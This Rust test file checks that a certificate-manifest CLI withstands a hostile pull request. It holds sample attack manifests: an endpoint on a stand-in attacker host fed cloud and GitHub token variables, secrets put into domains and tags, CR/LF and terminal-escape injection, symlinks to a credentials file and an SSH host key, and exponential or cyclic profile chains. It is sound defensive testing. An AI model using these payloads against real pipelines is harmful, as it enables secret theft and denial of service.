//! A hostile pull request: manifest trees written by someone who can only
//! edit manifests, each trying to get a secret out (through an endpoint, a
//! field, a name, a path, a PEM label, an error message) or to stop the run
//! (exponential profiles, a chain deeper than the stack, raw escapes).
//!
//! Each tree goes through `validate`, `render` and `plan` in every output
//! format, with `--json-out` and `plan --out`, with known fake secrets in
//! the environment (the default credentials, a `GITHUB_TOKEN`, another
//! secret) and a loopback listener standing in for the attacker's host.
//! No secret may appear, as written, lower-cased, in hex or in base64, in
//! any output, any file written, or any byte the listener receives; the
//! listener must not even see a connection; every run ends within a bound
//! with exit 1 and the expected diagnostic code.

use std::io::Read as _;
use std::net::TcpListener;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use crate::support::cli::Test;
use crate::support::fixtures::{CERTIFICATE, PROFILE};

const SECRET_ID: &str = "AKIDpullRequestFakeId0001";
const SECRET_KEY: &str = "pullRequestFakeSecretKey0001";
const GITHUB_TOKEN: &str = "ghp_pullRequestFakeGithubToken0001";
const OTHER: &str = "OtherSecretValue0001";

/// Every form a secret could leave in.
fn forms() -> Vec<String> {
    let mut forms = Vec::new();
    for secret in [SECRET_ID, SECRET_KEY, GITHUB_TOKEN, OTHER] {
        forms.push(secret.to_string());
        forms.push(secret.to_lowercase());
        forms.push(secret.to_uppercase());
        forms.push(secret.bytes().map(|b| format!("{b:02x}")).collect());
        // Base64 at each of the three offsets a secret can start at inside
        // a longer text, without the edge characters that depend on what
        // is around it (standard and URL-safe alphabets).
        for offset in 0..3 {
            let padded = format!("{}{secret}", "\0".repeat(offset));
            let encoded = base64(padded.as_bytes());
            let start = if offset == 0 { 0 } else { 4 };
            let inner = &encoded[start..encoded.len().saturating_sub(4)];
            forms.push(inner.to_string());
            forms.push(inner.replace('+', "-").replace('/', "_"));
        }
    }
    forms
}

fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, b)| n | (u32::from(*b) << (16 - 8 * i)));
        for i in 0..=chunk.len() {
            out.push(char::from(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize]));
        }
        for _ in chunk.len()..3 {
            out.push('=');
        }
    }
    out
}

/// The attacker's host: counts connections and bytes received.
struct Listener {
    port: u16,
    connections: Arc<AtomicUsize>,
    bytes: Arc<std::sync::Mutex<Vec<u8>>>,
}

impl Listener {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
        let port = listener.local_addr().expect("address").port();
        let connections = Arc::new(AtomicUsize::new(0));
        let bytes = Arc::new(std::sync::Mutex::new(Vec::new()));
        let (c, b) = (connections.clone(), bytes.clone());
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                c.fetch_add(1, Ordering::SeqCst);
                if let Ok(mut stream) = stream {
                    let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(2)));
                    let mut buffer = [0u8; 4096];
                    while let Ok(n) = stream.read(&mut buffer) {
                        if n == 0 {
                            break;
                        }
                        if let Ok(mut all) = b.lock() {
                            all.extend_from_slice(&buffer[..n]);
                        }
                    }
                }
            }
        });
        Self {
            port,
            connections,
            bytes,
        }
    }
}

fn certificate_with(extra: &str) -> String {
    format!("{CERTIFICATE}{extra}")
}

/// One hostile tree: its files, and the codes the runs must report.
struct Case {
    name: &'static str,
    files: Vec<(String, String)>,
    codes: &'static [&'static str],
}

/// A file text that makes the file a symbolic link to the path after it.
const LINK: &str = "\0link:";

fn cases(port: u16, outside: &Path) -> Vec<Case> {
    let account = |extra: &str| {
        format!(
            "apiVersion: tccert/v1\nkind: Account\nname: evil\nsecret_id: ${{EVIL_ID}}\nsecret_key: ${{EVIL_KEY}}\n{extra}"
        )
    };
    let uses_evil = certificate_with("account: evil\n");
    let mut cases = vec![
        Case {
            name: "credentials sent to the attacker's host",
            files: vec![
                ("acme.yaml".into(), PROFILE.into()),
                ("www.yaml".into(), uses_evil.clone()),
                (
                    "evil.yaml".into(),
                    format!(
                        "apiVersion: tccert/v1\nkind: Account\nname: evil\nendpoint: https://127.0.0.1:{port}\nsecret_id: ${{TENCENTCLOUD_SECRET_KEY}}\nsecret_key: ${{TENCENTCLOUD_SECRET_KEY}}\ntoken: ${{GITHUB_TOKEN}}\n"
                    ),
                ),
            ],
            codes: &["endpoint-not-allowed", "credential-role"],
        },
        Case {
            name: "plain http to loopback",
            files: vec![
                ("acme.yaml".into(), PROFILE.into()),
                ("www.yaml".into(), uses_evil.clone()),
                (
                    "evil.yaml".into(),
                    account(&format!("endpoint: http://127.0.0.1:{port}\n")),
                ),
            ],
            codes: &["endpoint-not-allowed"],
        },
        Case {
            name: "secrets in the endpoint's host and path",
            files: vec![
                ("acme.yaml".into(), PROFILE.into()),
                ("www.yaml".into(), uses_evil.clone()),
                (
                    "evil.yaml".into(),
                    account(&format!(
                        "endpoint: https://${{GITHUB_TOKEN}}.ssl.tencentcloudapi.com/${{TENCENTCLOUD_SECRET_KEY}}:{port}\n"
                    )),
                ),
            ],
            codes: &["interpolated-endpoint"],
        },
        Case {
            name: "a secret in the region, and CR/LF",
            files: vec![
                ("acme.yaml".into(), PROFILE.into()),
                ("www.yaml".into(), uses_evil.clone()),
                (
                    "evil.yaml".into(),
                    account("region: \"ap-guangzhou\\r\\nX-Leak: 1\"\n---\napiVersion: tccert/v1\nkind: Account\nname: evil2\nsecret_id: ${EVIL_ID}\nsecret_key: ${EVIL_KEY}\nregion: ${GITHUB_TOKEN}\n"),
                ),
            ],
            codes: &["invalid-region", "interpolated-endpoint"],
        },
        Case {
            name: "the default key in a domain and an email",
            files: vec![
                ("acme.yaml".into(), PROFILE.into()),
                (
                    "www.yaml".into(),
                    certificate_with(
                        "domains: [\"x.${TENCENTCLOUD_SECRET_KEY}_.com\"]\ncontact:\n  email: \"${TENCENTCLOUD_SECRET_ID}@\"\n",
                    ),
                ),
            ],
            codes: &["credential-variable"],
        },
        Case {
            name: "another secret in a domain, an email, a profile name",
            files: vec![
                ("acme.yaml".into(), PROFILE.into()),
                (
                    "www.yaml".into(),
                    CERTIFICATE
                        .replace("profiles: [acme]", "profiles: [acme, \"${GITHUB_TOKEN}\"]")
                        + "domains: [\"x.${GITHUB_TOKEN}_.com\"]\ncontact:\n  email: \"${OTHER_SECRET}@\"\n",
                ),
            ],
            codes: &["invalid-domain", "unknown-profile"],
        },
        Case {
            name: "secrets in names and the certificate id",
            files: vec![
                ("acme.yaml".into(), PROFILE.into()),
                (
                    "www.yaml".into(),
                    CERTIFICATE
                        .replace("name: www", "name: \"${GITHUB_TOKEN}\"")
                        + "account: \"${OTHER_SECRET}\"\n",
                ),
            ],
            codes: &["invalid-name"],
        },
        Case {
            name: "an account's credential read into a field",
            files: vec![
                ("acme.yaml".into(), PROFILE.into()),
                (
                    "www.yaml".into(),
                    certificate_with("account: evil\norganization:\n  name: \"${EVIL_KEY}\"\n"),
                ),
                ("evil.yaml".into(), account("")),
            ],
            codes: &["credential-variable"],
        },
        Case {
            name: "csr.file from a secret, outside the tree, and a private key's label",
            files: vec![
                ("acme.yaml".into(), PROFILE.into()),
                (
                    "www.yaml".into(),
                    CERTIFICATE.replace("type: online", "type: parse\n  file: \"${GITHUB_TOKEN}/x.csr\""),
                ),
                (
                    "api.yaml".into(),
                    CERTIFICATE
                        .replace("name: www", "name: api")
                        .replace("abcb1234", "api00001")
                        .replace("www.acme", "api.acme")
                        .replace("type: online", "type: parse\n  file: /etc/ssh/ssh_host_ed25519_key"),
                ),
                (
                    "pem.yaml".into(),
                    CERTIFICATE
                        .replace("name: www", "name: pem")
                        .replace("abcb1234", "pem00001")
                        .replace("www.acme", "pem.acme")
                        .replace(
                            "type: online",
                            "type: parse\n  pem: \"-----BEGIN ${GITHUB_TOKEN}-----\\nAAAA\\n-----END ${GITHUB_TOKEN}-----\\n\"",
                        ),
                ),
            ],
            codes: &["path-outside-tree"],
        },
        Case {
            name: "variables outside --env-allow",
            files: vec![
                ("acme.yaml".into(), PROFILE.into()),
                (
                    "www.yaml".into(),
                    certificate_with("organization:\n  name: \"${OTHER_SECRET:-Acme}\"\n"),
                ),
            ],
            codes: &["variable-not-allowed"],
        },
        Case {
            name: "escape sequences and bidi controls in values and a file name",
            files: vec![
                ("acme.yaml".into(), PROFILE.into()),
                (
                    "w\u{1b}[2J\u{202e}.yaml".into(),
                    certificate_with("domains: [\"x\u{202e}\u{1b}]0;t\u{7}.com\"]\n"),
                ),
            ],
            codes: &["invalid-domain"],
        },
    ];
    // A file of the runner's, outside the tree, linked in by the pull
    // request as a manifest and as a CSR: a parse error would quote it.
    let credentials = outside.join("credentials");
    cases.push(Case {
        name: "a symbolic link to a credentials file, as a manifest and as a CSR",
        files: vec![
            ("acme.yaml".into(), PROFILE.into()),
            (
                "leak.yaml".into(),
                format!("{LINK}{}", credentials.display()),
            ),
            ("key.csr".into(), format!("{LINK}{}", credentials.display())),
            // A directory of the runner's whose file names are secret.
            ("runner".into(), format!("{LINK}{}", outside.display())),
            (
                "www.yaml".into(),
                CERTIFICATE.replace("type: online", "type: parse\n  file: key.csr"),
            ),
        ],
        codes: &["path-outside-tree"],
    });
    // The same for a confirmation letter: linked in, absolute, and named
    // by a secret (relative: unreadable; absolute: outside), from a
    // certificate and from a profile.
    let to_buy = |name: &str, extra: &str| {
        CERTIFICATE
            .replace("certificate_id: abcb1234\n", "")
            .replace("name: www", &format!("name: {name}"))
            .replace("www.acme", &format!("{name}.acme"))
            + "purchase:\n  product: 9\n"
            + extra
    };
    cases.push(Case {
        name: "confirm_letter: a link to a credentials file, an absolute path, paths from secrets",
        files: vec![
            (
                "acme.yaml".into(),
                format!("{PROFILE}confirm_letter: \"/tmp/${{TENCENTCLOUD_SECRET_KEY:-x}}.pdf\"\n"),
            ),
            (
                "letter.pdf".into(),
                format!("{LINK}{}", credentials.display()),
            ),
            (
                "www.yaml".into(),
                to_buy("www", "confirm_letter: letter.pdf\n"),
            ),
            (
                "api.yaml".into(),
                to_buy("api", "confirm_letter: /etc/ssh/ssh_host_ed25519_key\n"),
            ),
            (
                "env.yaml".into(),
                to_buy("env", "confirm_letter: \"${GITHUB_TOKEN}/letter.pdf\"\n"),
            ),
            (
                "abs.yaml".into(),
                to_buy("abs", "confirm_letter: \"/tmp/${OTHER_SECRET}.pdf\"\n"),
            ),
            ("profile.yaml".into(), to_buy("profile", "")),
        ],
        codes: &[
            "path-outside-tree",
            "confirm-letter-file",
            "credential-variable",
        ],
    });
    cases.push(Case {
        name: "purchase tags from the environment",
        files: vec![
            ("acme.yaml".into(), PROFILE.into()),
            (
                "www.yaml".into(),
                to_buy(
                    "www",
                    "  tags:\n    team: \"${GITHUB_TOKEN}\"\n    owner: \"${OTHER_SECRET};x\"\n    \"tccert:certificate\": \"${OTHER_SECRET}\"\n",
                ),
            ),
            (
                "api.yaml".into(),
                to_buy("api", "  tags:\n    key: \"${TENCENTCLOUD_SECRET_KEY}\"\n"),
            ),
            // A name from a secret is the tag's value: every message about
            // the purchase names the certificate.
            (
                "named.yaml".into(),
                to_buy("named", "  domain_count: 3\n  years: 2\n")
                    .replace("name: named", "name: \"${OTHER_SECRET}\"")
                    .replace("dv: true\n", ""),
            ),
        ],
        codes: &["invalid-tag", "reserved-tag", "credential-variable", "domain-count", "invalid-name"],
    });
    // A diamond 40 levels deep: 2^40 paths through 121 profiles.
    let mut diamond = String::new();
    for i in 0..40 {
        diamond += &format!(
            "apiVersion: tccert/v1\nkind: Profile\nname: p{i}\nprofiles: [a{i}, b{i}]\n---\napiVersion: tccert/v1\nkind: Profile\nname: a{i}\nprofiles: [p{n}]\n---\napiVersion: tccert/v1\nkind: Profile\nname: b{i}\nprofiles: [p{n}]\n---\n",
            n = i + 1
        );
    }
    diamond += "apiVersion: tccert/v1\nkind: Profile\nname: p40\n";
    cases.push(Case {
        name: "a diamond of profiles 40 deep",
        files: vec![
            ("acme.yaml".into(), PROFILE.into()),
            ("diamond.yaml".into(), diamond),
            (
                "www.yaml".into(),
                CERTIFICATE.replace("profiles: [acme]", "profiles: [acme, p0]"),
            ),
        ],
        codes: &["profile-depth"],
    });
    // A cycle of 12,000 profiles, 1,000 to a file.
    let mut files: Vec<(String, String)> = vec![
        ("acme.yaml".into(), PROFILE.into()),
        (
            "www.yaml".into(),
            CERTIFICATE.replace("profiles: [acme]", "profiles: [acme, c0]"),
        ),
    ];
    for file in 0..12 {
        let mut text = String::new();
        for i in file * 1000..(file + 1) * 1000 {
            text += &format!(
                "apiVersion: tccert/v1\nkind: Profile\nname: c{i}\nprofiles: [c{}]\n---\n",
                (i + 1) % 12_000
            );
        }
        files.push((format!("chain{file:02}.yaml"), text));
    }
    cases.push(Case {
        name: "a cycle of 12,000 profiles",
        files,
        codes: &["profile-cycle"],
    });
    cases
}

fn environment(test: Test) -> Test {
    test.env("TENCENTCLOUD_SECRET_ID", SECRET_ID)
        .env("TENCENTCLOUD_SECRET_KEY", SECRET_KEY)
        .env("GITHUB_TOKEN", GITHUB_TOKEN)
        .env("OTHER_SECRET", OTHER)
        .env("EVIL_ID", OTHER)
        .env("EVIL_KEY", OTHER)
}

/// No form of a secret, and no raw escape or bidi control, in `text`.
fn check_clean(label: &str, what: &str, text: &[u8], forms: &[String]) -> Result<(), String> {
    let text = String::from_utf8_lossy(text);
    if let Some(form) = forms.iter().find(|f| text.contains(f.as_str())) {
        return Err(format!("{label}: {what} holds {form:?}:\n{text}"));
    }
    if let Some(raw) = ['\u{1b}', '\u{202e}', '\u{7}']
        .iter()
        .find(|c| text.contains(**c))
    {
        return Err(format!("{label}: {what} holds a raw {raw:?}:\n{text}"));
    }
    Ok(())
}

/// Runs one case through every command and format; the first problem found.
fn run_case(case: &Case, listener: &Listener, forms: &[String]) -> Result<(), String> {
    let dir = tempfile::tempdir().map_err(|e| e.to_string())?;
    for (name, text) in &case.files {
        let path = dir.path().join(name);
        match text.strip_prefix(LINK) {
            Some(target) => std::os::unix::fs::symlink(target, &path),
            None => std::fs::write(&path, text),
        }
        .map_err(|e| e.to_string())?;
    }
    let connections_before = listener.connections.load(Ordering::SeqCst);
    let env_allow = case.codes.contains(&"variable-not-allowed");
    let mut seen_codes: Vec<&str> = Vec::new();
    for command in ["validate", "render", "plan"] {
        for output in ["text", "json", "github", "markdown"] {
            let mut args: Vec<String> =
                vec![command.into(), ".".into(), "--output".into(), output.into()];
            if command == "plan" {
                args.extend([
                    "--json-out".into(),
                    "out.json".into(),
                    "--out".into(),
                    "plan.tcplan".into(),
                    "--timeout".into(),
                    "5".into(),
                ]);
            }
            if env_allow {
                args.extend(["--env-allow".into(), "ACME_*".into()]);
            }
            let label = format!("`{}`", args.join(" "));
            let test = environment(Test::from_dir(dir.path().to_path_buf())).args(args.clone());
            let measured = test.run_measured();
            if measured.wall > BOUND {
                return Err(format!("{label} took {:?}", measured.wall));
            }
            let run = measured.run;
            let all = format!("{}{}", run.stdout(), run.stderr());
            if run.code() != 1 {
                return Err(format!("{label} exited {}:\n{all}", run.code()));
            }
            check_clean(&label, "the output", all.as_bytes(), forms)?;
            for written in ["out.json", "plan.tcplan"] {
                let path = dir.path().join(written);
                if let Ok(bytes) = std::fs::read(&path) {
                    check_clean(&label, written, &bytes, forms)?;
                    let _ = std::fs::remove_file(&path);
                    if written == "plan.tcplan" {
                        return Err(format!("{label} wrote a saved plan"));
                    }
                }
            }
            for code in case.codes {
                if all.contains(code) {
                    seen_codes.push(code);
                }
            }
            if listener.connections.load(Ordering::SeqCst) != connections_before {
                return Err(format!("{label}: the attacker's listener saw a connection"));
            }
        }
    }
    for code in case.codes {
        let runs = seen_codes.iter().filter(|c| *c == code).count();
        if runs < 12 {
            return Err(format!("`{code}` was reported by {runs} of 12 runs"));
        }
    }
    Ok(())
}

/// How long one run may take: each must end with a clear error at once.
const BOUND: std::time::Duration = std::time::Duration::from_secs(20);

#[test]
fn no_hostile_manifest_gets_a_secret_out_or_stops_the_run() {
    let listener = Listener::start();
    let forms = forms();
    // The runner's own files, outside the tree.
    let outside = tempfile::tempdir().expect("a directory");
    std::fs::write(
        outside.path().join("credentials"),
        format!(
            "[default]\nsecret_id = {SECRET_ID}\nsecret_key = {SECRET_KEY}\n: {GITHUB_TOKEN}\n"
        ),
    )
    .expect("write");
    std::fs::write(
        outside.path().join(format!("{GITHUB_TOKEN}.yaml")),
        "apiVersion: tccert/v1\n",
    )
    .expect("write");
    let failed: Vec<String> = cases(listener.port, outside.path())
        .iter()
        .filter_map(|case| {
            // A run that hangs past the watchdog panics: that case
            // failed, and the others are still tried.
            let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
                run_case(case, &listener, &forms)
            }))
            .unwrap_or_else(|_| Err("a run did not finish (killed by the watchdog)".into()));
            outcome.err().map(|why| format!("{}: {why}", case.name))
        })
        .collect();
    let received = listener.bytes.lock().map(|b| b.clone()).unwrap_or_default();
    assert!(
        failed.is_empty(),
        "{} hostile case(s) got through:\n\n{}",
        failed.len(),
        failed.join("\n\n")
    );
    assert_eq!(listener.connections.load(Ordering::SeqCst), 0);
    assert!(
        received.is_empty(),
        "the listener received {} bytes",
        received.len()
    );
}

/// The operator's side: a loopback endpoint is allowed by
/// `--allow-endpoint` or `TCCERT_ALLOW_ENDPOINTS` (comma-separated), and
/// `TCCERT_ENV_ALLOW` works as `--env-allow`; nothing in a manifest can.
#[test]
fn the_operator_allows_endpoints_and_variables_outside_the_manifests() {
    let account = "apiVersion: tccert/v1\nkind: Account\nname: lab\nendpoint: http://127.0.0.1:9\nsecret_id: ${LAB_ID}\nsecret_key: ${LAB_KEY}\n";
    let tree = || {
        Test::new()
            .file("acme.yaml", PROFILE)
            .file("lab.yaml", account)
            .file("www.yaml", &certificate_with("account: lab\n"))
    };
    tree()
        .args(["validate", "."])
        .run()
        .failure()
        .stderr_contains("error[endpoint-not-allowed]");
    tree()
        .args(["validate", ".", "--allow-endpoint", "127.0.0.1:9"])
        .run()
        .success();
    tree()
        .args(["validate", "."])
        .env(
            "TCCERT_ALLOW_ENDPOINTS",
            "ssl.example.internal, 127.0.0.1:9",
        )
        .run()
        .success();
    // Another port of the same host is another endpoint.
    tree()
        .args(["validate", ".", "--allow-endpoint", "127.0.0.1:10"])
        .run()
        .failure()
        .stderr_contains("error[endpoint-not-allowed]");
    tree()
        .args(["validate", ".", "--allow-endpoint", "127.0.0.1:9"])
        .env("TCCERT_ENV_ALLOW", "OTHER_*")
        .run()
        .failure()
        .stderr_contains("error[variable-not-allowed]: `${LAB_ID}`");
    tree()
        .args(["validate", ".", "--allow-endpoint", "127.0.0.1:9"])
        .env("TCCERT_ENV_ALLOW", "OTHER_*,LAB_*")
        .run()
        .success();
}
